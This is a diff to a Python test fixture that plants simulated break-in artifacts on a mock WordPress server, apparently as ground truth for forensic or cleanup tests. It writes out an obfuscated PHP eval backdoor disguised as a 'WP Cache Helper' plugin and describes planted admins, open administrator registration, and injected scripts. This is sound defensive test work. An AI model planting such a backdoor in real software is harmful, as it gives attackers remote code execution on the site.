@@ -1,5 +1,7 @@
 """The break-in: what the intruder left on the old server (files only; the database
-part — an unknown administrator and a <script> in a post — is populate.php's phase 3).
+part — unknown administrators, a role of its own, open registration, <script>s in a
+post, a widget and a custom field, a rogue cron event, an active backdoor plugin — is
+populate.php's phase 3).
 
 Each plant returns an :class:`Indicator` for the ground truth: where it is, what kind,
 and a distinctive ``evidence`` string (bytes found in the file) so a test can prove the
@@ -332,6 +334,17 @@ def plant(root: Path, seed: str, *, www: tuple[int, int],
                            "must-use plugin hiding the unknown administrator from wp-admin",
                            f"user_login != '{intruder.login}'", {"site": BLOG.key}))
 
+    # 14. A plugin that is nothing but a backdoor, active in the blog's active_plugins
+    # (populate.php phase 3 activated it): quarantined, it must also leave that option.
+    plugin = f"{BLOG.content_dir}/plugins/{BLOG.rogue_plugin}"
+    _put(root, plugin, "<?php\n/*\nPlugin Name: WP Cache Helper\nVersion: 1.0.2\n*/\n"
+         + _obfuscated_php("if(isset($_POST['wpc'])){eval(base64_decode($_POST['wpc']));}")
+         + "\n", uid=www[0], gid=www[1], when="2024-03-12 08:05:00")
+    found.append(Indicator("rogue-plugin", "php_backdoor", plugin,
+                           "an active plugin that is only an obfuscated backdoor",
+                           "@eval(gzinflate(base64_decode(",
+                           {"site": BLOG.key, "active_plugins": BLOG.rogue_plugin}))
+
     # Database-side indicators (planted by populate.php phase 3).
     found.append(Indicator("wp-rogue-cron", "wp_cron", "",
                            "WP-cron event calling a foreign URL every hour (cron option)",
@@ -342,4 +355,28 @@ def plant(root: Path, seed: str, *, www: tuple[int, int],
     found.append(Indicator("wp-script-injection", "wp_post_script", "",
                            "<script> from a foreign host appended to a published post",
                            BLOG.injected_script, {"site": BLOG.key, "post": BLOG.injected_post}))
+    planted = {u.key: u for u in BLOG.users if u.planted}
+    found.append(Indicator("wp-planted-admin-2", "wp_admin", "",
+                           "administrator with an ordinary name and an outside address, "
+                           "registered in the compromise window", planted["intruder2"].login,
+                           {"site": BLOG.key, "user": "intruder2"}))
+    found.append(Indicator("wp-rogue-role", "wp_role", "",
+                           f"custom role {BLOG.rogue_role[0]} that can install plugins",
+                           BLOG.rogue_role[0], {"site": BLOG.key,
+                                                "caps": list(BLOG.rogue_role[2])}))
+    found.append(Indicator("wp-rogue-role-user", "wp_account", "",
+                           f"account in the role {BLOG.rogue_role[0]}", planted["seo"].login,
+                           {"site": BLOG.key, "user": "seo"}))
+    found.append(Indicator("wp-open-registration", "wp_option", "",
+                           "anyone can register, as an administrator",
+                           f"default_role={BLOG.open_registration_role}",
+                           {"site": BLOG.key, "option": "default_role"}))
+    found.append(Indicator("wp-widget-script", "wp_option", "",
+                           "<script> appended to a text widget (serialized widget_text)",
+                           BLOG.widget_script, {"site": BLOG.key, "option": "widget_text"}))
+    script = BLOG.meta_script[2][BLOG.meta_script[2].index("<script"):]
+    found.append(Indicator("wp-meta-script", "wp_post_script", "",
+                           "<script> in a post's custom field", script,
+                           {"site": BLOG.key, "post": BLOG.meta_script[0],
+                            "meta_key": BLOG.meta_script[1]}))
     return found
